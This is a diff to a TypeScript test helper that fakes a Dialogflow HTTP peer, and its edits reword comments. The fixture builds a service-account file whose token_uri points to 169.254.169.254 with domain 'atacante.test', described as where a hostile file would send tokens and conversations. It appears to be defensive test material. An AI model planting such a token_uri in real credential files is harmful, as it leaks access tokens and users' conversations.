@@ -14,9 +14,9 @@ interface Saying {
 export interface DialogflowPeer extends HttpPeer {
   /** The JSON of a service account that the peer knows. */
   account: (name?: string) => string;
-  /** What each project's agent says to a text. Without a line it says the text again. */
+  /** The answer of each project's agent to a text. By default it repeats the text. */
   says: Map<string, Saying>;
-  /** The sessions that were asked, with their texts. */
+  /** The requested sessions, with their texts. */
   readonly turns: { project: string; session: string; text: string; language: string; account: string }[];
 }
 
@@ -74,7 +74,7 @@ export async function startDialogflowPeer(): Promise<DialogflowPeer> {
         type: "service_account",
         client_email: `${name}@projeto.iam.gserviceaccount.com`,
         private_key: pem,
-        // Whoever wrote the file would like the token, and the conversations, to go here.
+        // A hostile file would send the token, and the conversations, here.
         token_uri: "http://169.254.169.254/token",
         universe_domain: "atacante.test",
       }),
